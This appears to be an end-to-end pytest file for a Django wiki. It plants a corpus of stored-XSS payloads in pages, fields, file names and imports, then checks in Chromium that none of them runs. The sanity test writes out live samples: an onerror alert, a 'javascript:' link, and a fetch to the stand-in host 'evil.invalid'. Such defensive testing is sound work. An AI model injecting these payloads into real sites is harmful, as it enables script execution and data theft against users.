"""Stored XSS, proved in a real Chromium: no payload saved anywhere in the wiki runs.

Every payload of xss_payloads.py is stored (xss_plant.py) through the actions the edit
forms use, in page titles and text, artefact fields, change notes, attachment names and a
space's name, and through the Notion and Confluence importers; then every page that shows
it is opened, logged in, in Chromium under the watch of xss_watch.py, which ignores the CSP
so that the sanitiser and templates alone must stop each payload. The first test proves
the watch itself sees script that does run.
"""

import json
import re
from urllib.parse import quote

import markdown
import pytest

from artefacts import kinds
from importers.pipeline import run_import
from tests.check import xss_payloads as corpus
from tests.check.xss_plant import (
    ARTEFACT_KINDS,
    FAMILIES,
    confluence_export,
    distinct_payloads,
    notion_export,
    plant_diff,
    plant_files,
    plant_history,
    plant_links,
    plant_page,
    url_payloads,
)
from tests.check.xss_watch import MARKER, PASSWORD, Watch, log_in
from wikiapp import actions
from wikiapp.models import Attachment, Page, Revision

pytestmark = pytest.mark.e2e


def test_the_watch_catches_what_runs_leaks_or_stays_armed(
    browser,
    live_server,
    transactional_db,
    django_user_model,
):
    """The detector is not vacuous: script put into a page on purpose is seen by it."""
    django_user_model.objects.create_user("ada", password=PASSWORD)
    watch = Watch(origin=live_server.url)
    context, tab = log_in(browser, live_server, watch, "ada")
    try:
        watch.where = "blank page"
        tab.set_content("<img src=x onerror='alert(123451)'>")  # returns once loaded
        watch.open(tab, f"{live_server.url}/", "wiki home")
        # The site's own pages, scripts and forms are not mistaken for payloads.
        assert set(watch.executions) == {
            ("blank page", "alert", "123451"),
            ("blank page", "dialog alert", "123451"),
        }, watch.report()
        assert not (watch.leaks or watch.armed), watch.report()
        # bypass_csp works: an inline handler injected into a real wiki page runs, and is
        # put down to the payload that carried its marker.
        planted = watch.plant("sanity", "injected", "<img src=x onerror=alert(MARK)>")
        tab.evaluate(
            """(planted) => new Promise(done => {
                 document.querySelector("main").insertAdjacentHTML("beforeend", planted
                   + "<a href='javascript:confirm(123453)'>j</a><b onmouseover='x'>h</b>"
                   + "<div class='prose'><p hx-get='/'>p</p></div>");
                 // Listeners run in order: once this one runs, the payload's onerror has.
                 document.querySelector("main img[src=x]").addEventListener("error", done);
               })""",
            planted.text,
        )
        tab.evaluate("() => fetch('http://evil.invalid/123454').catch(() => null)")
        # A dialog opened from a fresh frame's own alert is caught too.
        tab.evaluate(
            """() => document.body.appendChild(document.createElement("iframe"))
                 .contentWindow.alert(123455)"""
        )
        watch.probe(tab)
    finally:
        context.close()
    calls = {kind for _, kind, _ in watch.executions}
    details = " ".join(what for _, _, what in watch.executions)
    assert "123451" in details and "123453" in details, watch.report()
    assert watch.culprits()["executed"] >= {planted.marker}, watch.report()
    assert "123455" in details and calls >= {"alert", "confirm"}, watch.report()
    assert calls >= {"dialog alert", "dialog confirm"}, watch.report()
    assert [url for _, url in watch.leaks] == ["http://evil.invalid/123454"], watch.report()
    armed = " ".join(what for _, what in watch.armed)
    assert "handler onerror" in armed and "handler onmouseover" in armed, watch.report()
    assert "script URL href" in armed and "attribute hx-get" in armed, watch.report()


SEARCHES = ("alert", "onerror", "script", "svg", "evil")
REFLECTED = corpus.PLAIN_TEXT[1:4]


def test_the_payloads_do_run_where_nothing_sanitises_them(
    browser,
    live_server,
    transactional_db,
    django_user_model,
    figures,
):
    """The corpus is live: rendered by plain Markdown, unsanitised, most payloads run.

    Written into a blank page of the live server's origin one at a time, every fourth
    payload. About a quarter stay inert there, by design: attacks on a sanitiser's
    re-parse (mXSS, attribute breaking), near misses (`javascript&#x3aalert`, percent-
    encoded schemes) and what today's Chromium ignores (vbscript:, CSS expressions).
    """
    django_user_model.objects.create_user("ada", password=PASSWORD)
    watch = Watch(origin=live_server.url)
    payloads = [(f, t) for f, texts in FAMILIES for t in texts]
    payloads += [("script URL", t) for page in url_payloads() for t in page]
    context, tab = log_in(browser, live_server, watch, "ada")
    caught = 0
    try:
        # set_content writes into the current document, so relative and //host URLs
        # resolve against the live server as they would on a wiki page.
        tab.goto(f"{live_server.url}/healthz")
        for family, text in payloads[::4]:
            planted = watch.plant(family, "unsanitised", text)
            before = len(watch.executions) + len(watch.leaks) + len(watch.armed)
            watch.where = f"unsanitised {planted.marker}"
            tab.set_content(markdown.markdown(planted.text))
            watch.probe(tab)
            caught += len(watch.executions) + len(watch.leaks) + len(watch.armed) > before
    finally:
        context.close()
    figures.add("XSS payloads live without the sanitiser", tried=len(payloads[::4]), caught=caught)
    assert caught >= 2 / 3 * len(payloads[::4]), watch.report()


def test_no_stored_payload_runs_where_the_wiki_shows_it(
    browser,
    live_server,
    transactional_db,
    django_user_model,
    figures,
):
    """Pages, fields, notes, files and a space name hold payloads; every view showing them."""
    ada = django_user_model.objects.create_user("ada", password=PASSWORD)
    space = actions.create_space(slug="team", name="Team", created_by=ada)
    watch = Watch(origin=live_server.url)
    payloads = [(family, text) for family, texts in FAMILIES for text in texts]
    pages = [
        plant_page(watch, space=space, author=ada, family=family, text=text, index=index)
        for index, (family, text) in enumerate(payloads)
    ]
    pages += [
        plant_links(watch, space=space, author=ada, texts=texts, index=index)
        for index, texts in enumerate(url_payloads(), start=1)
    ]
    # Change notes and file names are one line of text without control characters.
    plain = [(f, t) for f, t in payloads if not re.search(r"[\x00-\x1f\x7f]", t)][:100]
    notes = plant_history(watch, space=space, author=ada, texts=plain)
    everything = plant_diff(
        watch,
        space=space,
        author=ada,
        texts=payloads + [("script URL", t) for page in url_payloads() for t in page],
    )
    # A "/" would cut the name down to what follows it.
    files = plant_files(watch, space=space, author=ada, texts=[p for p in plain if "/" not in p[1]])
    # Links to every page by its (payload) title, as [[Title]] shows them.
    linkable = [p.title for p in pages if not re.search(r"[\[\]|\n\x02\x03]", p.title)]
    links = actions.create_page(
        space=space,
        title="Title links",
        body="\n\n".join(f"[[{title}]] and [[{title}|label]]" for title in linkable),
        author=ada,
    )
    named = watch.plant("plain text", "space name", corpus.PLAIN_TEXT[1])
    other = actions.create_space(slug="other", name=named.text, created_by=ada)
    actions.create_page(space=other, title="In the other space", body="alert", author=ada)

    base = f"{live_server.url}/s/team"
    context, tab = log_in(browser, live_server, watch, "ada")
    try:
        for page in pages:
            watch.open(tab, f"{base}/{page.slug}/", f"page {page.slug}")
        views = [f"{base}/", f"{live_server.url}/", f"{base}/-/health/", f"{base}/-/start/"]
        views += [f"{base}/-/{kinds.get(k).list_slug}/" for k in ARTEFACT_KINDS]
        views += [f"{base}/{notes.slug}/history/?page={n}" for n in (1, 2, 3)]
        views += [
            f"{base}/{everything.slug}/diff/?from=1&to=2",
            f"{base}/{everything.slug}/diff/?from=1&to=2&mode=inline",
            f"{base}/{everything.slug}/v/1/",
            f"{base}/{files.slug}/",
            f"{base}/{files.slug}/attachments/",
            f"{base}/{links.slug}/",
        ]
        views += [f"{live_server.url}/search/?q={quote(q)}" for q in SEARCHES]
        for url in views:
            watch.open(tab, url, url)
        for text in REFLECTED:
            for place, url in reflected_urls(watch, base, live_server.url, text):
                watch.open(tab, url, place)
        watch.open(tab, f"{base}/{quote(REFLECTED[0])}/", "not found", status=404)
        # Edit forms: titles and fields in inputs, the text in a textarea, and its preview,
        # which htmx fetches on load and swaps in.
        editors = [everything, pages[0]] + [
            next(p for p in pages if p.kind == kind) for kind in ARTEFACT_KINDS
        ]
        for page in editors:
            watch.open(tab, f"{base}/{page.slug}/edit/", f"edit {page.slug}", htmx="/-/preview/")
        for action in ("rename", "move", "kind"):
            watch.open(tab, f"{base}/{pages[0].slug}/{action}/", f"{action} {pages[0].slug}")
        # The palette's results are a fragment htmx swaps into the open dialog.
        for query in SEARCHES[:2]:
            watch.open(tab, f"{base}/", f"palette {query}")
            tab.keyboard.press("Control+k")
            tab.locator("#palette-q").fill(query)
            tab.locator("#palette-results li").first.wait_for()
            watch.probe(tab)
    finally:
        context.close()

    found = watch.culprits()
    figures.add(
        "XSS payloads",
        tried=len(watch.planted),
        distinct=len(distinct_payloads()),
        executed=len(found["executed"]),
        armed=len(found["armed"]),
        refused=watch.refused,
    )
    figures.add(
        "XSS other-origin requests", pages_opened=watch.pages_opened, requests=len(watch.leaks)
    )
    assert not (watch.executions or watch.leaks or watch.armed), watch.report()


def reflected_urls(watch: Watch, base: str, root: str, text: str) -> list[tuple[str, str]]:
    """Pages that show what the address asked for: search, palette, new-page form."""

    def q(place: str) -> str:
        return quote(watch.plant("plain text", place, text).text)

    return [
        ("search query", f"{root}/search/?q={q('search query')}&space={q('search space')}"),
        ("palette query", f"{root}/palette/?q={q('palette query')}&from={q('palette from')}"),
        ("new page form", f"{base}/-/new/?title={q('new page title')}&kind={q('new page kind')}"),
    ]


def test_no_imported_payload_runs_where_the_wiki_shows_it(
    browser,
    live_server,
    transactional_db,
    django_user_model,
    tmp_path,
    figures,
):
    """Through run_import, what the Import page and the import commands run."""
    ada = django_user_model.objects.create_user("ada", password=PASSWORD, is_superuser=True)
    watch = Watch(origin=live_server.url)
    for source, data in [
        ("notion", notion_export(watch)),
        ("confluence", confluence_export(watch)),
    ]:
        export = tmp_path / f"{source}.zip"
        export.write_bytes(data)
        report = run_import(source=source, file=export, space_slug=source, user=ada)
        assert report["stored"]["pages_created"] == report["pages"], report["warnings"]

    # What the conversion to Markdown already dropped never reached a page; count it.
    stored = " ".join(
        json.dumps([r.title, r.body, r.fields, r.message]) for r in Revision.objects.all()
    ) + " ".join(Attachment.objects.values_list("name", flat=True))
    dropped = sum(str(marker) not in stored for marker in watch.planted)

    context, tab = log_in(browser, live_server, watch, "ada")
    try:
        for source in ("notion", "confluence"):
            space = f"{live_server.url}/s/{source}"
            watch.open(tab, f"{space}/", f"{source} space home")
            pages = Page.objects.filter(space__slug=source).select_related("current")
            for index, page in enumerate(pages.order_by("pk")):
                watch.open(tab, f"{space}/{page.slug}/", f"{source} page {page.slug}")
                # The page lists its files by name; the files page also shows them as images.
                if index % 6 == 1 and page.attachments.exists():
                    watch.open(tab, f"{space}/{page.slug}/attachments/", f"{source} files")
                if MARKER.search(page.current.message):
                    watch.open(tab, f"{space}/{page.slug}/history/", f"{source} history")
            watch.open(tab, f"{space}/-/goals/", f"{source} goals")
            watch.open(tab, f"{space}/-/decisions/", f"{source} decisions")
    finally:
        context.close()

    found = watch.culprits()
    figures.add(
        "XSS payloads",
        tried=len(watch.planted),
        executed=len(found["executed"]),
        armed=len(found["armed"]),
        dropped_on_import=dropped,
    )
    figures.add(
        "XSS other-origin requests", pages_opened=watch.pages_opened, requests=len(watch.leaks)
    )
    assert not (watch.executions or watch.leaks or watch.armed), watch.report()
